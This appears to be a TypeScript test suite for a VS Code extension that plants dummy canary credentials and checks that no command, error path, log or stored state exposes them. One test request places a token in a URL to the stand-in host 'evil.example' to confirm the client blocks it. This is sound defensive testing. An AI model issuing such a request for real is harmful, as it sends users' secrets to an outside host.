// Passes known credentials through every command and every kind of failure, and then searches for them everywhere.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import type { Account } from '../../../src/api/client/account';
import type { ApiRequest, Exchange } from '../../../src/api/client/types';
import { spellings } from '../../../src/core/redaction';
import type { TestApi } from '../../../src/extension';
import { startSandbox } from '../../../src/features/sandbox/server';
import type { RunningSandbox } from '../../../src/features/sandbox/options';
import { filesWith, startEcho, type EchoApi, type EchoMode } from './secretLeakSupport';
import { autoResponder, type AutoResponder } from './fakeUsers';
import { closeLog, loadTestApi as activate, leadRows, waitUntilSettled, waitUntil } from './leadSupport';

const CANARIES = {
  token: 'canary/Tok+7f3e91c2a04b==',
  key: 'canary-Key-5b8d2f60e7a1c934',
  access: 'canary.Access~d41c07be52',
  refresh: 'canary/Refresh+e6a9b3105f',
  renewed: 'canary.Renewed~90c4e1ab77',
  renewedRefresh: 'canary.Refresh2~13f7bd4e02',
  typed: 'canary-Typed-c2e97f0316',
  webhook: 'canary-Webhook-4d19a8c7be',
};
const FORMS = Object.values(CANARIES).flatMap((secret) => [...spellings(secret)]);
const LIST: ApiRequest = {
  method: 'POST',
  url: '/api/profile/lead/list',
  body: { kind: 'form', fields: [['limit', '5']] },
};
/** Milliseconds a command may take; slower ones are left running. */
const COMMAND_TIMEOUT_MS = 400;
/** The page is checked after this many commands, because their output stays in it until the editors are closed. */
const COMMANDS_PER_LOOK = 6;
/** Commands that contact the outside or remove what other commands need. All their prompts are dismissed. */
const SHY = new Set([
  'acquire.account.signIn',
  'acquire.account.signOut',
  'acquire.account.signOutAll',
  'acquire.data.removeAll',
  'acquire.reference.ask',
  'acquire.reference.openPage',
  'acquire.webhooks.setForwarding',
]);

describe('a credential', function () {
  this.timeout(900_000);
  let api: TestApi;
  let sandbox: RunningSandbox;
  let echo: EchoApi;
  let user: AutoResponder;
  let folder: string;
  let dataDir: string;
  const accounts: Account[] = [];

  /** Where a canary occurs in a text, for the failure message, which does not repeat the canary. */
  const found = (text: string): string[] =>
    FORMS.filter((form) => text.includes(form)).map(
      (form) =>
        `spelling ${FORMS.indexOf(form)} after "${text.slice(Math.max(0, text.indexOf(form) - 60), text.indexOf(form))}"`,
    );
  const clean = (what: string, text: string): string[] => found(text).map((where) => `${what}: ${where}`);

  /** The kind and title of the active panel, '' if an editor or nothing is active. */
  function activePanel(): string {
    const { activeTab } = vscode.window.tabGroups.activeTabGroup;
    return activeTab?.input instanceof vscode.TabInputWebview ? `${activeTab.input.viewType} ${activeTab.label}` : '';
  }

  /** The version of each document that was checked last. */
  const lookedAt = new WeakMap<vscode.TextDocument, number>();

  /** Searches everything visible: messages and questions, the clipboard, open documents, and the page with its panels. */
  async function inSight(after: string, page = true): Promise<string[]> {
    const texts = clean(`${after}, questions`, user.seen.splice(0).join('\n'));
    texts.push(...clean(`${after}, clipboard`, await vscode.env.clipboard.readText()));
    for (const document of vscode.workspace.textDocuments) {
      const uri = document.uri.toString(true);
      // Unchanged documents were checked before, and some are large.
      if (lookedAt.get(document) === document.version) continue;
      lookedAt.set(document, document.version);
      texts.push(...clean(`${after}, ${document.uri.scheme} document`, `${uri}\n${document.getText()}`));
    }
    if (page) texts.push(...clean(`${after}, page`, await pageText()));
    return texts;
  }
  let looks = 0;
  async function pageText(): Promise<string> {
    const file = path.join(tmpdir(), `acq-look-${process.pid}-${looks++}.html`);
    console.log(`[look] ${file}`);
    await waitUntil('the text of the page', () => existsSync(file) && readFileSync(file).length > 0);
    const text = readFileSync(file, 'utf8');
    rmSync(file);
    assert.ok(text.includes('monaco-workbench'), 'the page was looked at');
    return text;
  }
  const add = async (
    label: string,
    more: Partial<Account>,
    credential: Parameters<TestApi['accounts']['add']>[1],
  ): Promise<Account> => {
    const { key } = await api.accounts.add(
      {
        label,
        generation: '1.0.0',
        origin: echo.origin,
        pathForm: 'api',
        kind: 'own',
        credentialKind: credential.kind,
        authHeader: 'bearer',
        ...more,
      },
      credential,
    );
    await api.accounts.writes.set(key, 'always');
    accounts.push(api.accounts.get(key)!);
    return api.accounts.get(key)!;
  };
  async function signInAgain(): Promise<void> {
    accounts.length = 0;
    const server = {
      authorizationEndpoint: `${echo.origin}/oauth/authorize`,
      tokenEndpoint: `${echo.origin}/oauth/token`,
      revocationEndpoint: `${echo.origin}/oauth/revoke`,
      clientId: 'client',
    };
    await add('By Key', { generation: '2.0.0', authHeader: 'auth_token' }, { kind: 'token', token: CANARIES.key });
    await add(
      'By OAuth',
      { kind: 'customer' },
      {
        kind: 'oauth',
        token: CANARIES.access,
        refreshToken: CANARIES.refresh,
        expiresAt: Date.now() + 3_600_000,
        server,
      },
    );
    await add('By Token', {}, { kind: 'token', token: CANARIES.token });
  }

  before(async () => {
    api = await activate();
    await api.accounts.removeAll();
    sandbox = await startSandbox({ leads: 12 });
    echo = await startEcho(sandbox, () => ({
      access_token: CANARIES.renewed,
      refresh_token: CANARIES.renewedRefresh,
      token_type: 'bearer',
      expires_in: 3600,
    }));
    folder = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    dataDir = api.services.context.logUri.fsPath;
    while (!path.basename(dataDir).startsWith('acq-data-') && dataDir !== path.dirname(dataDir))
      dataDir = path.dirname(dataDir);
    if (dataDir === path.dirname(dataDir)) dataDir = path.dirname(api.services.context.logUri.fsPath);
    await vscode.commands.executeCommand('_extensionTests.setLogLevel', 'trace').then(undefined, () => undefined);
    await vscode.env.clipboard.writeText('');
    user = autoResponder(folder);
    await signInAgain();
    await vscode.commands.executeCommand('acquire.leads.focus');
    await waitUntilSettled();
  });
  after(async () => {
    user.restore();
    await vscode.commands.executeCommand('_extensionTests.setLogLevel', 'info').then(undefined, () => undefined);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await closeLog();
    await vscode.commands.executeCommand('acquire.webhooks.stop');
    await api.accounts.removeAll();
    await echo.stop();
    await sandbox.stop();
  });

  it('is returned by the server in every kind of failure but never shown, for any account', async () => {
    const client = await api.services.client();
    const kinds = new Set<string>();
    const problems: string[] = [];
    const checkExchange = async (what: string, exchange: Exchange, account: Account): Promise<void> => {
      if (exchange.error) kinds.add(exchange.error.kind);
      await api.services.showError(exchange.error ?? new Error(`no failure, ${what}`), account);
      problems.push(
        ...clean(`${what}, exchange`, JSON.stringify(exchange) + String(exchange.error?.stack)),
        ...(await inSight(what, false)),
      );
    };
    user.answersLeft = 0;
    for (const account of accounts) {
      const modes: EchoMode[] = [
        'echo',
        'network',
        'slow',
        'redirect',
        '403',
        '404',
        '429',
        'rejected',
        'html',
        'broken',
        '500',
        'large',
        '401',
      ];
      for (const mode of modes) {
        echo.mode = mode;
        const request =
          mode === 'slow' ? { ...LIST, timeoutMs: 200 } : mode === 'large' ? { ...LIST, maxBytes: 64 } : LIST;
        await checkExchange(
          `${account.label} ${mode}`,
          await client.send(
            account,
            mode === '429' || mode === '500' || mode === 'network' ? { ...request, timeoutMs: 700 } : request,
          ),
          account,
        );
      }
      echo.mode = 'slow';
      await checkExchange('cancelled', await client.send(account, LIST, AbortSignal.timeout(50)), account);
      echo.mode = 'echo';
      const own =
        { 'By Key': CANARIES.key, 'By OAuth': CANARIES.renewed, 'By Token': CANARIES.token }[account.label] ?? '';
      for (const request of [
        { ...LIST, url: `https://evil.example/?t=${own}` },
        { ...LIST, headers: [['Authorization', `Bearer ${own}`]] as const },
        { ...LIST, headers: [['X-Mine', CANARIES.token]] as const },
      ])
        await checkExchange('refused before it is sent', await client.send(account, request), account);
      await api.accounts.writes.set(account.key, 'locked');
      await checkExchange(
        'locked',
        await client.send(account, {
          method: 'POST',
          url: '/api/profile/lead/delete',
          body: { kind: 'form', fields: [['id[]', '1']] },
        }),
        account,
      );
      await api.accounts.writes.set(account.key, 'always');
    }
    const tls = await add(
      'By TLS',
      { origin: echo.origin.replace('http:', 'https:') },
      { kind: 'token', token: CANARIES.token },
    );
    await checkExchange('tls', await client.send(tls, LIST), tls);
    await api.accounts.remove(tls.key);
    assert.deepEqual(problems, []);
    const wanted = [
      'network',
      'timeout',
      'cancelled',
      'too-large',
      'redirect',
      'untrusted-host',
      'read-only',
      'invalid-request',
      'unauthorized',
      'forbidden',
      'not-found',
      'rate-limited',
      'rejected',
      'malformed',
      'server',
      'tls',
    ];
    assert.deepEqual(
      wanted.filter((kind) => !kinds.has(kind)),
      [],
    );
    const sent = [CANARIES.token, CANARIES.key, CANARIES.access, CANARIES.renewed, CANARIES.refresh];
    assert.deepEqual(
      sent.filter((secret) => !echo.seen.has(secret)),
      [],
      'each credential did reach the server and came back',
    );
  });

  /** Runs each command with all arguments from `callsOf`, and searches everything that becomes visible for the canaries. */
  async function passEveryCommand(callsOf: (calls: readonly unknown[][]) => readonly unknown[][]): Promise<void> {
    echo.mode = 'echo';
    await api.accounts.removeAll();
    await signInAgain();
    await api.services.context.secrets.store('acquire.webhooks.secret', CANARIES.webhook);
    const problems: string[] = [];
    const late: string[] = [];
    const run = async (id: string, ...args: unknown[]): Promise<void> => {
      user.answersLeft = SHY.has(id) ? 0 : 12;
      let timer: ReturnType<typeof setTimeout> | undefined;
      await Promise.race([
        vscode.commands.executeCommand(id, ...args),
        new Promise((resolve) => {
          timer = setTimeout(() => {
            late.push(id);
            user.answersLeft = 0;
            resolve(undefined);
          }, COMMAND_TIMEOUT_MS);
        }),
      ]);
      clearTimeout(timer);
    };
    const isLast = (id: string): boolean => /signOut/.test(id);
    const unseen: string[] = [];
    let seenPanel = '';
    const lookAtPage = async (): Promise<void> => {
      problems.push(...clean(`${unseen.splice(0).join(', ')}, page`, await pageText()));
      seenPanel = activePanel();
    };
    for (const id of [...api.commandIds.filter((c) => !isLast(c)), ...api.commandIds.filter(isLast)]) {
      const account = accounts.find((a) => a.label === 'By Token')!;
      if (!api.accounts.get(account.key)) await signInAgain();
      await api.accounts.setActive(accounts.at(-1)!.key);
      const row = (await leadRows())[0];
      const [entry] = await (await api.requests.load()).context.history.store.list(account.key);
      const operation = { operationId: 'v1.lead.list', id: 'v1.lead.list' };
      const exchange = entry && { kind: 'exchange', entry };
      const callsByGroup: Record<string, unknown[][]> = {
        account: [[accounts.at(-1)!.key], [{ token: CANARIES.typed }]],
        lead: [[row, [row]]],
        leads: [[row, [row]]],
        request: [[exchange], [operation]],
        reference: [[operation]],
      };
      for (const args of callsOf(callsByGroup[id.split('.')[1] ?? ''] ?? [])) {
        await run(id, ...args);
        problems.push(...(await inSight(`${id} with ${args.length ? typeof args[0] : 'nothing'}`, false)));
      }
      unseen.push(id);
      const crowded = vscode.window.tabGroups.all.flatMap((g) => g.tabs).length > 8;
      const showsLog = id.endsWith('.showLog');
      // The page contains only the active panel, so each one is checked.
      const isNewPanel = activePanel() !== '' && activePanel() !== seenPanel;
      if (crowded || showsLog || unseen.length >= COMMANDS_PER_LOOK || isNewPanel) await lookAtPage();
      if (crowded) await vscode.commands.executeCommand('workbench.action.closeAllEditors');
      if (showsLog) await closeLog();
    }
    await lookAtPage();
    console.log(`[t] commands that were left waiting: ${[...new Set(late)].join(', ') || 'none'}`);
    assert.deepEqual([...new Set(problems)], []);
  }

  it('is not shown by any command with its usual arguments', () => passEveryCommand((calls) => [calls.at(-1) ?? []]));

  it('is not shown by any command without arguments or with any possible ones @long', () =>
    passEveryCommand((calls) => [[], ...calls]));

  it('is in no file and no stored state afterwards, even with trace logging', async () => {
    const { globalState, workspaceState, logUri } = api.services.context;
    const stored = JSON.stringify(
      [globalState, workspaceState].map((memory) => memory.keys().map((key) => [key, memory.get(key)])),
    );
    assert.deepEqual(clean('state', stored), []);
    assert.equal(api.services.log.logLevel, vscode.LogLevel.Trace, 'the log was at trace');
    assert.ok(
      filesWith(dataDir, ['/api/profile/lead/list']).some(
        (file) => file.includes(path.basename(path.dirname(logUri.fsPath))) || /log/.test(file),
      ),
      'the log did hold the calls',
    );
    for (const place of [dataDir, folder])
      assert.deepEqual(
        filesWith(place, FORMS).map((file) => [path.relative(place, file), ...found(readFileSync(file, 'utf8'))]),
        [],
      );
  });
});
